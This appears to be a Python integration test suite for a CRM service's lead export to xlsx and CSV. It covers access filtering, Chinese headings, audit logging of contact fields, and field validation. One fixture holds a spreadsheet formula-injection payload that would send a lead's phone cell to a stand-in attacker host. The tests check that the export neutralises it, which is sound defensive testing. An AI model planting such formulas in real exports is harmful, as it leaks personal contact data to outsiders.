"""ExportLeads (issue 20): the leads a caller may see, as .xlsx or CSV a spreadsheet opens as
data, headed in the reader's language, with an audit entry when contact details are in it."""

from __future__ import annotations

import csv
import io
import logging
import uuid

import grpc
import openpyxl
import pytest
from crm.common.v1 import types_pb2
from crm.sales.v1 import sales_pb2
from crm_shared.db import UtcDateTime, utcnow
from crm_shared.spreadsheet_cells import UTF8_BOM
from sales_service import lead_table
from sales_service.lead_views import STATUSES
from sales_service.models import Lead
from sqlalchemy import JSON, Boolean, Integer

pytestmark = pytest.mark.integration

HYPERLINK = '=HYPERLINK("https://evil.example/?"&E2,"Open")'


def _neutral(column, now):
    if isinstance(column.type, JSON):
        return {} if "dict" in str(Lead.__annotations__.get(column.name)) else []
    if isinstance(column.type, Boolean):
        return False
    if isinstance(column.type, Integer):
        return 0
    if isinstance(column.type, UtcDateTime):
        return now
    return ""


def add_lead(api, **fields) -> Lead:
    """A lead row as the service would store it; unnamed required columns get neutral values."""
    now = utcnow()
    values = {column.name: _neutral(column, now) for column in Lead.__table__.columns
              if not column.nullable and column.name not in fields}
    values.update(id=str(uuid.uuid4()), number=f"L{uuid.uuid4().hex[:10]}", status="assigned",
                  grade="B", source="exhibition", department_path="/hq/sales/east")
    values.update(fields)
    with api.database.unit_of_work() as uow:
        uow.session.add(Lead(**values))
    return Lead(**values)


@pytest.fixture(scope="module")
def api(start_sales_api):
    return start_sales_api("sqlite")


@pytest.fixture(scope="module")
def two_reps(api):
    mine = add_lead(api, contact_name=HYPERLINK, owner_id="u-rep", phone="+8613912345678")
    other = add_lead(api, contact_name="韩梅梅", owner_id="u-rep-2", status="new")
    return mine, other


def export(api, caller, **fields) -> bytes:
    chunks = api.stub(caller).ExportLeads(sales_pb2.ExportLeadsRequest(**fields))
    return b"".join(chunk.data for chunk in chunks)


def test_a_reps_xlsx_holds_only_their_leads_in_chinese_with_formulas_as_text(
        api, two_reps, caplog):
    mine, _other = two_reps
    with caplog.at_level(logging.INFO, logger="sales_service.audit"):
        data = export(api, "u-rep", format=types_pb2.TABLE_FORMAT_XLSX, locale="zh-CN",
                      access_purpose="周报")
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    assert sheet.title == "线索"
    rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert rows[0] == list(lead_table.COLUMNS.values())
    assert len(rows) == 2  # the header and the rep's own lead only
    row = dict(zip(lead_table.COLUMNS, rows[1], strict=True))
    assert (row["number"], row["status"], row["phone"]) == (mine.number, "已分配", mine.phone)
    name = sheet.cell(row=2, column=list(lead_table.COLUMNS).index("contact_name") + 1)
    assert (name.value, name.data_type, name.quotePrefix) == (HYPERLINK, "s", True)
    (entry,) = [r for r in caplog.records if r.name == "sales_service.audit"]
    assert (entry.actor_id, entry.lead_ids, entry.purpose) == ("u-rep", [mine.id], "周报")
    assert entry.fields == list(lead_table.PERSONAL_COLUMNS)


def test_a_leads_csv_for_a_reader_has_the_bom_and_neutralised_cells_and_the_filters(
        api, two_reps, caplog):
    mine, other = two_reps
    with caplog.at_level(logging.INFO, logger="sales_service.audit"):
        text = export(api, "u-east-lead", locale="en-US",
                      columns=["number", "company_name", "status"]).decode("utf-8")
    assert text.startswith(UTF8_BOM)
    rows = list(csv.reader(io.StringIO(text.removeprefix(UTF8_BOM), newline="")))
    assert rows[0] == ["number", "company_name", "status"]
    assert sorted(row[0] for row in rows[1:]) == sorted([mine.number, other.number])
    assert not [r for r in caplog.records if r.name == "sales_service.audit"]  # no contacts
    machine = export(api, "u-east-lead", columns=["contact_name"],
                     statuses=[sales_pb2.LEAD_STATUS_ASSIGNED]).decode("utf-8")
    assert list(csv.reader(io.StringIO(machine, newline=""))) == [
        ["contact_name"], ["'" + HYPERLINK]]


def test_bad_columns_format_and_locale_are_field_errors(api, rpc_error):
    stub = api.stub("u-admin")
    error = rpc_error(lambda request: list(stub.ExportLeads(request)),
                      sales_pb2.ExportLeadsRequest(columns=["number", "secret"], format=9,
                                                   locale="fr-FR"))
    assert error.code is grpc.StatusCode.INVALID_ARGUMENT
    assert {v.field for v in error.violations} == {"columns[1]", "format", "locale"}


def test_every_status_has_its_chinese_word():
    assert set(lead_table.CHINESE_WORDS["status"]) == set(STATUSES.by_name)
